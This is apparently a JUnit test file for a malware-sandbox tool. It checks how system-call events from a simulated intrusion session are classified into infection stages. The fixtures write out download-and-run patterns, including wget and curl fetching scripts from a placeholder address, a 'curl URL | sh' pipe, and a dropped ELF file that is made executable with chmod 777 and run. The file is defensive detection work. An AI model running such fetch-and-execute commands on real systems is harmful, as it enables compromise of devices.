package org.malassay.infection;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.malassay.behavior.Endpoint;
import org.malassay.behavior.Event;
import org.malassay.behavior.Origin;
import org.malassay.behavior.ProcessBegun;
import org.malassay.behavior.ProcessEnded;
import org.malassay.behavior.ProgramStarted;
import org.malassay.behavior.SystemCall;

class InfectionFoldTest {
  private static final int TYPIST = 10;
  private static final int SHELL = 20;

  private final InfectionFold fold =
      new InfectionFold(List.of("cat /proc/mounts", "second", "third"));
  private int seconds;

  @BeforeEach
  void aSessionStandsAtThePrompt() {
    fold.accept(new ProcessBegun(Duration.ZERO, Origin.GUEST, TYPIST, 1));
    start(TYPIST, "/tmp/session", "/usr/local/sbin/malassay-login", "/tmp/session");
    begin(SHELL, 1);
    start(SHELL, "/bin/busybox", "-sh");
  }

  private void type(int command) {
    call(TYPIST, "faccessat", "ENOENT", "/malassay/command/" + command, "AT_FDCWD", "path", "0");
  }

  private void begin(int process, int parent) {
    fold.accept(new ProcessBegun(now(), Origin.GUEST, process, parent));
  }

  private void start(int process, String program, String... arguments) {
    fold.accept(
        new ProgramStarted(now(), Origin.GUEST, process, program, List.of(arguments), false));
  }

  private void end(int process, int signal) {
    fold.accept(
        new ProcessEnded(
            now(),
            Origin.GUEST,
            process,
            signal == 0 ? OptionalInt.of(0) : OptionalInt.empty(),
            signal == 0 ? OptionalInt.empty() : OptionalInt.of(signal)));
  }

  /** One that succeeds, where the error is empty. */
  private void call(int process, String name, String error, String path, String... arguments) {
    fold.accept(event(process, name, error, path, Optional.empty(), arguments));
  }

  private Event event(
      int process,
      String name,
      String error,
      String path,
      Optional<Endpoint> peer,
      String... arguments) {
    return new SystemCall(
        now(),
        Origin.GUEST,
        Duration.ofMillis(1),
        process,
        process,
        name,
        List.of(arguments),
        Optional.of(path).filter(it -> !it.isEmpty()),
        Optional.empty(),
        peer,
        OptionalInt.empty(),
        error.isEmpty() ? 3 : -1,
        Optional.of(error).filter(it -> !it.isEmpty()));
  }

  private Duration now() {
    return Duration.ofSeconds(seconds++);
  }

  private void redirect(int process, String path) {
    call(process, "openat", "", path, "AT_FDCWD", "\"x\"", "O_WRONLY|O_CREAT|O_TRUNC", "0666");
  }

  private void connect(int process) {
    Optional<Endpoint> peer = Optional.of(new Endpoint("192.0.2.7", 80));
    fold.accept(event(process, "connect", "", "", peer, "3", "192.0.2.7:80", "16"));
  }

  private Optional<StageSeen> stage(String number) {
    return fold.infection().stages().stream().filter(it -> it.stage().equals(number)).findFirst();
  }

  private void assertReached(String... stages) {
    assertThat(fold.infection().reached()).isEqualTo(String.join(" ", stages));
  }

  @Test
  void theLoginsOwnShellIsNoStage() {
    assertReached();
    assertThat(fold.infection().last()).isEmpty();
    assertThat(fold.infection().typed()).isZero();
  }

  @Test
  void aShellThatIsTypedIsTheFirstStage() {
    type(1);
    type(2);
    begin(21, SHELL);
    start(21, "/bin/sh", "sh");
    call(21, "brk", "", "");
    assertReached("1");
    assertThat(stage("1").orElseThrow().command()).isEqualTo(2);
    assertThat(fold.infection().typed()).isEqualTo(2);
  }

  @Test
  void aShellOfManyNamesNeedNotExecuteItself() {
    type(1);
    begin(21, SHELL);
    call(21, "prctl", "", "", "PR_SET_NAME", "\"sh\"");
    assertReached("1");
  }

  @Test
  void aProgramThatNamesItselfLikeAShellIsNone() {
    type(1);
    begin(21, SHELL);
    start(21, "/tmp/bot", "./bot");
    call(21, "prctl", "", "", "PR_SET_NAME", "\"sh\"");
    assertReached();
  }

  @Test
  void aShellThatIsKilledBeforeItDoesAnythingWasRefused() {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/busybox", "busybox", "sh");
    call(21, "execve", "", "/bin/busybox", "\"/bin/busybox\"", "0x1", "0x2");
    end(21, 9);
    assertReached();
    assertThat(fold.infection().refused()).isEqualTo("1");
  }

  @Test
  void aShellThatTheKernelDoesNotExecuteWasRefused() {
    type(1);
    call(21, "execve", "EPERM", "/bin/dash", "\"/bin/dash\"", "0x1", "0x2");
    assertThat(fold.infection().refused()).isEqualTo("1");
  }

  @Test
  void aShellWithAScriptThatIsNotThereIsNoStage() {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/sh", "sh", "absent.sh");
    call(21, "openat", "ENOENT", "/tmp/absent.sh", "AT_FDCWD", "\"absent.sh\"", "O_RDONLY");
    end(21, 0);
    assertReached();
  }

  @Test
  void foldersAreLookedForByGoingThereAndByProbes() {
    type(1);
    call(SHELL, "chdir", "", "/tmp", "\"/tmp/\"");
    assertReached("2");
    assertThat(stage("2").orElseThrow().count()).isEqualTo(1);
    redirect(SHELL, "/dev/.nippon");
    assertThat(stage("2").orElseThrow().count()).isEqualTo(2);
  }

  @Test
  void whatIsReadTellsOfTheDevice() {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/busybox", "/bin/busybox", "cat", "/bin/echo");
    call(21, "openat", "", "/usr/bin/echo", "AT_FDCWD", "\"/bin/echo\"", "O_RDONLY");
    assertReached("3");
  }

  @Test
  void aCopyOfAProgramIsNoLookAtIt() {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/busybox", "cp", "/bin/echo", ".s");
    call(21, "openat", "", "/usr/bin/echo", "AT_FDCWD", "\"/bin/echo\"", "O_RDONLY");
    call(21, "openat", "", "/tmp/.s", "AT_FDCWD", "\".s\"", "O_WRONLY|O_CREAT", "0755");
    assertReached("5");
  }

  @Test
  void whatAConnectedProcessWritesIsADownload() {
    type(1);
    begin(21, SHELL);
    start(21, "/usr/bin/wget", "wget", "http://192.0.2.7/x");
    redirect(21, "/tmp/before");
    call(21, "write", "", "/tmp/before", "4", "\"text\"", "4");
    assertReached();
    connect(21);
    redirect(21, "/tmp/x");
    call(21, "write", "", "/tmp/x", "4", "\"\\x7fELF\\x01\"...", "4096");
    assertReached("4a");
  }

  @Test
  void whatIsWrittenAfterAConnectionThatFailedIsNoDownload() {
    type(1);
    begin(21, SHELL);
    start(21, "/usr/bin/wget", "wget", "-o", "log", "http://192.0.2.7/x");
    Optional<Endpoint> peer = Optional.of(new Endpoint("192.0.2.7", 80));
    fold.accept(event(21, "connect", "ENETUNREACH", "", peer, "3", "192.0.2.7:80", "16"));
    Optional<Endpoint> names = Optional.of(new Endpoint("192.0.2.53", 53));
    fold.accept(event(21, "connect", "", "", names, "3", "192.0.2.53:53", "16"));
    redirect(21, "/tmp/log");
    call(21, "write", "", "/tmp/log", "4", "\"failed\"", "6");
    assertReached();
  }

  @Test
  void whatIsNotThereWasNotRefused() {
    type(1);
    call(SHELL, "chdir", "ENOENT", "/mnt", "\"/mnt\"");
    assertThat(fold.infection().stages()).isEmpty();
  }

  @Test
  void aProgramWrittenByEchoGivenPermissionAndRun() {
    type(1);
    redirect(SHELL, "/tmp/upnp");
    call(SHELL, "write", "", "/tmp/upnp", "1", "\"\\x7fELF\\x01\\x01\\x01\"", "7");
    type(2);
    begin(21, SHELL);
    start(21, "/bin/chmod", "chmod", "777", "upnp");
    call(21, "fchmodat", "", "/tmp/upnp", "AT_FDCWD", "\"upnp\"", "0777");
    end(21, 0);
    type(3);
    begin(22, SHELL);
    start(22, "/tmp/upnp", "./upnp");
    call(22, "write", "", "", "1", "\"dropped\\n\"", "8");
    assertReached("4b", "5", "6b");
    assertThat(fold.infection().last()).contains("6b");
    assertThat(fold.infection().stages()).extracting(StageSeen::command).containsExactly(1, 2, 3);
  }

  /** dash's echo knows no -e: what it writes is the text of the escapes. */
  @Test
  void textWrittenByEchoIsNoProgram() {
    type(1);
    redirect(SHELL, "/tmp/upnp");
    call(
        SHELL,
        "write",
        "",
        "/tmp/upnp",
        "1",
        "\"-ne \\\\x7f\\\\x45\\\\x4c\\\\x46\\\\x01\\n\"",
        "25");
    assertReached();
  }

  @Test
  void aScriptOfTheSessionIsRunByAShellOrByItself() {
    type(1);
    redirect(SHELL, "/tmp/s");
    call(SHELL, "write", "", "/tmp/s", "1", "\"#!/bin/sh\\n\"", "10");
    type(2);
    begin(21, SHELL);
    start(21, "/bin/sh", "sh", "s");
    call(21, "openat", "", "/tmp/s", "AT_FDCWD", "\"s\"", "O_RDONLY");
    assertReached("6a");
    assertThat(stage("6a").orElseThrow().command()).isEqualTo(2);
    type(3);
    begin(22, SHELL);
    start(22, "/tmp/s", "./s");
    end(22, 0);
    assertThat(stage("6a").orElseThrow().count()).isEqualTo(2);
  }

  @Test
  void whatTheKernelRefusesIsAnAttempt() {
    type(1);
    redirect(SHELL, "/tmp/pay");
    call(SHELL, "write", "", "/tmp/pay", "1", "\"\\x7fELF\"", "4");
    call(SHELL, "fchmodat", "EPERM", "/tmp/pay", "AT_FDCWD", "\"pay\"", "0777");
    begin(21, SHELL);
    call(21, "execve", "EACCES", "/tmp/pay", "\"./pay\"", "0x1", "0x2");
    assertReached("4b");
    assertThat(fold.infection().refused()).isEqualTo("5 6b");
  }

  @Test
  void aFolderThatMayBeSearchedIsNoProgram() {
    type(1);
    call(SHELL, "fchmodat", "", "/tmp/folder", "AT_FDCWD", "\"folder\"", "0755");
    assertReached();
  }

  @Test
  void whatAnEarlierCommandStartedIsItsOwn() {
    type(1);
    begin(21, SHELL);
    start(21, "/usr/bin/wget", "wget", "http://192.0.2.7/x");
    connect(21);
    type(2);
    redirect(21, "/tmp/x");
    call(21, "write", "", "/tmp/x", "4", "\"text\"", "4");
    assertThat(stage("4a").orElseThrow().command()).isEqualTo(1);
  }

  /** As {@code (sleep 9; wget ...) &}: the shell makes a copy of itself, which starts programs. */
  @Test
  void whatGoesOnInTheBackgroundIsOfTheCommandThatBeganIt() {
    type(1);
    begin(21, SHELL);
    type(2);
    call(21, "chdir", "", "/tmp", "\"/tmp\"");
    begin(22, 21);
    start(22, "/bin/uname", "uname");
    end(22, 0);
    assertThat(fold.infection().stages()).extracting(StageSeen::command).containsExactly(1, 1);
    assertThat(fold.commands()).extracting(CommandSeen::number).containsExactly(1);
  }

  @Test
  void aShellThatIsTypedTakesTheNextCommandsAndOneWithCommandsOfItsOwnDoesNot() {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/sh", "sh", "-c", "sleep 9; cd /tmp");
    begin(22, SHELL);
    start(22, "/bin/sh", "sh");
    type(2);
    call(21, "chdir", "", "/tmp", "\"/tmp\"");
    call(22, "chdir", "", "/mnt", "\"/mnt\"");
    assertStagesOfCommands("1 [1, 2]", "2 [2]");
  }

  private void assertStagesOfCommands(String... commandsAndStages) {
    assertThat(fold.commands())
        .extracting(seen -> seen.number() + " " + seen.stages())
        .containsExactly(commandsAndStages);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "--norc",
        "--rcfile /tmp/c",
        "--init-file c -i",
        "-o vi",
        "-O extglob",
        "-",
        "-s c"
      })
  void aShellWithOptionsOnlyTakesTheNextCommands(String options) {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/bash", ("bash " + options).split(" ", -1));
    type(2);
    call(21, "chdir", "", "/tmp", "\"/tmp\"");
    assertStagesOfCommands("1 [1]", "2 [2]");
  }

  @ParameterizedTest
  @ValueSource(strings = {"--norc -c", "-c", "-ec", "-o errexit -c", "-c -e", "--rcfile c -c"})
  void aShellThatIsToldItsCommandsTakesNone(String options) {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/bash", ("bash " + options + " sleep").split(" ", -1));
    type(2);
    call(21, "chdir", "", "/tmp", "\"/tmp\"");
    assertStagesOfCommands("1 [1, 2]");
  }

  @Test
  void whatTheLoginsShellExecutesInItsPlaceIsOfThatCommand() {
    type(1);
    type(2);
    start(SHELL, "/bin/sh", "sh", "-c", "sleep 9; cd /tmp");
    type(3);
    call(SHELL, "chdir", "", "/tmp", "\"/tmp\"");
    assertStagesOfCommands("2 [1, 2]");
  }

  @Test
  void aFileThatTheLoginsShellGoesOnWithIsOfThatCommand() {
    type(1);
    type(2);
    call(SHELL, "dup2", "", "/tmp/s", "3", "0");
    type(3);
    call(SHELL, "chdir", "", "/tmp", "\"/tmp\"");
    assertStagesOfCommands("2 [2]");
  }

  @Test
  void aShellThatReadsAFileInTheBackgroundTakesNoCommandsUntilItReadsATerminal() {
    type(1);
    begin(21, SHELL);
    call(21, "dup2", "", "/tmp/s", "3", "0");
    start(21, "/bin/sh", "sh");
    type(2);
    call(21, "chdir", "", "/tmp", "\"/tmp\"");
    call(21, "dup2", "", "/dev/tty", "3", "0");
    call(21, "openat", "", "/proc/version", "AT_FDCWD", "\"/proc/version\"", "O_RDONLY");
    assertStagesOfCommands("1 [1, 2]", "2 [3]");
  }

  @Test
  void aShellThatReadsAPipeInTheBackgroundIsOfTheCommandThatBeganIt() {
    type(1);
    pipe(21, 22);
    start(21, "/usr/bin/wget", "wget", "-qO-", "http://192.0.2.7/x.sh");
    start(22, "/bin/sh", "sh");
    type(2);
    connect(21);
    call(21, "write", "", "", "1", "\"id\n\"", "3");
    call(22, "read", "", "", "0", "0x1", "8192");
    begin(23, 22);
    call(23, "chdir", "", "/tmp", "\"/tmp\"");
    assertStagesOfCommands("1 [1, 2, 6a]");
  }

  /** As {@code curl URL | sh}, with a filter between or without. */
  private void pipe(int from, int to) {
    call(SHELL, "pipe2", "", "", "[3, 4]", "0");
    begin(from, SHELL);
    begin(to, SHELL);
    call(from, "dup2", "", "", "4", "1");
    call(to, "dup2", "", "", "3", "0");
    call(SHELL, "close", "", "", "3");
    call(SHELL, "close", "", "", "4");
  }

  @Test
  void aScriptThatAShellReadsAsItIsFetchedIsRun() {
    type(1);
    pipe(21, 22);
    start(21, "/usr/bin/curl", "curl", "http://192.0.2.7/x.sh");
    start(22, "/bin/sh", "sh");
    call(22, "read", "", "", "0", "0x1", "8192");
    assertReached("1");
    connect(21);
    call(21, "write", "", "", "1", "\"id\\n\"", "3");
    call(22, "read", "", "", "0", "0x1", "8192");
    assertReached("1", "6a");
  }

  @ParameterizedTest
  @ValueSource(strings = {"-s -- x", "-s x", "-es x", "-o errexit"})
  void argumentsOfAScriptThatIsFetchedAreNoFile(String arguments) {
    type(1);
    pipe(21, 22);
    connect(21);
    call(21, "write", "", "", "1", "\"id\n\"", "3");
    start(22, "/bin/sh", ("sh " + arguments).split(" ", -1));
    call(22, "read", "", "", "0", "0x1", "8192");
    assertReached("1", "6a");
  }

  @ParameterizedTest
  @ValueSource(strings = {"/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
  void theStandardInputByItsNameIsAPipeLikeAnyOther(String name) {
    type(1);
    pipe(21, 22);
    connect(21);
    call(21, "write", "", "", "1", "\"id\n\"", "3");
    start(22, "/bin/sh", "sh", name, "x");
    call(22, "openat", "", name, "AT_FDCWD", "\"" + name + "\"", "O_RDONLY");
    call(22, "dup2", "", "", "3", "255");
    call(22, "read", "", "", "255", "0x1", "1");
    assertReached("1", "6a");
  }

  /** As {@code x=$(curl URL)}: what is fetched is no command. */
  @Test
  void whatAShellReadsFromAnotherPipeIsNoScript() {
    type(1);
    call(SHELL, "pipe2", "", "", "[3, 4]", "0");
    begin(21, SHELL);
    call(21, "dup2", "", "", "4", "1");
    connect(21);
    call(21, "write", "", "", "1", "\"id\n\"", "3");
    call(SHELL, "read", "", "", "3", "0x1", "128");
    assertReached();
  }

  @Test
  void spliceWritesToItsThirdArgument() {
    type(1);
    pipe(21, 22);
    start(22, "/bin/sh", "sh");
    connect(21);
    call(21, "splice", "", "", "0", "NULL", "5", "NULL", "4096", "0x0");
    call(22, "read", "", "", "0", "0x1", "8192");
    assertReached("1");
    call(21, "splice", "", "", "5", "NULL", "1", "NULL", "4096", "0x0");
    call(22, "read", "", "", "0", "0x1", "8192");
    assertReached("1", "6a");
  }

  @Test
  void aDescriptorBecomesAnotherPipeHoweverManyThereAre() {
    type(1);
    pipe(21, 22);
    connect(21);
    call(21, "write", "", "", "1", "\"id\n\"", "3");
    for (int end = 5; end < 25; end += 2) {
      call(22, "pipe2", "", "", "[" + end + ", " + (end + 1) + "]", "0");
    }
    call(22, "dup2", "", "", "5", "0");
    start(22, "/bin/sh", "sh");
    call(22, "read", "", "", "0", "0x1", "8192");
    assertReached("1");
  }

  /** One that an execution has closed, say. */
  @Test
  void aFileThatIsOpenedIsNoPipe() {
    type(1);
    pipe(21, 22);
    connect(21);
    call(21, "write", "", "", "1", "\"id\n\"", "3");
    call(22, "openat", "", "/dev/tty", "AT_FDCWD", "\"/dev/tty\"", "O_RDWR");
    call(22, "dup2", "", "/dev/tty", "3", "0");
    start(22, "/bin/sh", "sh");
    type(2);
    call(22, "read", "", "", "0", "0x1", "8192");
    call(22, "chdir", "", "/tmp", "\"/tmp\"");
    assertStagesOfCommands("1 [1]", "2 [2]");
  }

  @Test
  void whatGoesThroughAFilterIsFetchedAllTheSame() {
    type(1);
    call(SHELL, "pipe2", "", "", "[3, 4]", "0");
    begin(21, SHELL);
    call(21, "dup2", "", "", "4", "1");
    call(SHELL, "close", "", "", "4");
    call(SHELL, "pipe2", "", "", "[4, 5]", "0");
    begin(22, SHELL);
    call(22, "dup2", "", "", "3", "0");
    call(22, "dup2", "", "", "5", "1");
    begin(23, SHELL);
    call(23, "dup2", "", "", "4", "0");
    start(21, "/usr/bin/wget", "wget", "-O", "-", "http://192.0.2.7/x.sh");
    connect(21);
    call(21, "write", "", "", "1", "\"id\\n\"", "3");
    start(22, "/bin/cat", "cat");
    call(22, "write", "", "", "1", "\"id\\n\"", "3");
    start(23, "/bin/sh", "sh");
    call(23, "read", "", "", "0", "0x1", "8192");
    assertReached("1", "6a");
  }

  @Test
  void whatNobodyFetchedOrNoShellExecutesIsNoScript() {
    type(1);
    pipe(21, 22);
    start(21, "/bin/cat", "cat", "x.sh");
    call(21, "write", "", "", "1", "\"id\\n\"", "3");
    start(22, "/bin/sh", "sh");
    call(22, "read", "", "", "0", "0x1", "8192");
    pipe(23, 24); // as: wget -O - URL | while read line
    start(23, "/usr/bin/wget", "wget", "-O", "-", "http://192.0.2.7/x");
    connect(23);
    call(23, "write", "", "", "1", "\"id\\n\"", "3");
    call(24, "read", "", "", "0", "0x1", "1");
    assertReached("1");
  }

  @Test
  void eachCommandHasItsCallsWithoutThoseOfTheStart() {
    type(1);
    begin(21, SHELL);
    start(21, "/bin/cat", "cat", "/proc/mounts");
    call(21, "openat", "", "/etc/ld.so.cache", "AT_FDCWD", "\"x\"", "O_RDONLY|O_CLOEXEC");
    call(21, "openat", "", "/proc/mounts", "AT_FDCWD", "\"/proc/mounts\"", "O_RDONLY");
    call(21, "read", "", "/proc/mounts", "3", "0x1", "4096");
    call(21, "read", "", "/proc/mounts", "3", "0x1", "4096");
    CommandSeen seen = fold.commands().get(0);
    assertThat(seen.number()).isEqualTo(1);
    assertThat(seen.typed()).isEqualTo("cat /proc/mounts");
    assertThat(seen.programs()).containsExactly("cat /proc/mounts");
    assertThat(seen.calls()).containsEntry("openat", 1L).containsEntry("read", 2L);
    assertThat(seen.stages()).containsExactly("2", "3");
  }

  @Test
  void thatAShellReadsWhatIsTypedIsNoneOfACommandsCalls() {
    type(1);
    call(SHELL, "read", "", "", "0", "0x1", "1");
    call(SHELL, "write", "", "", "1", "\"c\"", "1");
    call(SHELL, "read", "", "/proc/version", "0", "0x1", "1");
    assertThat(fold.commands().get(0).calls()).containsExactly(Map.entry("read", 1L));
  }

  @Test
  void whatOnlyTheTypistMarksCounts() {
    call(SHELL, "faccessat", "ENOENT", "/malassay/command/7", "AT_FDCWD", "path", "0");
    assertThat(fold.infection().typed()).isZero();
  }

  @Test
  void marksThatAreNotInOrderAreNoneOfTheTypists() {
    type(2);
    type(4);
    assertThat(fold.infection().typed()).isZero();
    type(1);
    type(1);
    type(2);
    type(9);
    assertThat(fold.infection().typed()).isEqualTo(2);
    assertThat(fold.infection().isCut()).isTrue();
  }

  @Test
  void everyRuleTellsOfOneOfTheSevenStages() {
    assertThat(InfectionFold.stages().unevaluated()).isEmpty();
    assertThat(InfectionFold.stages().rules())
        .extracting(rule -> rule.stage().orElse(""))
        .containsOnly("1", "2", "3", "4a", "4b", "5", "6a", "6b");
  }
}
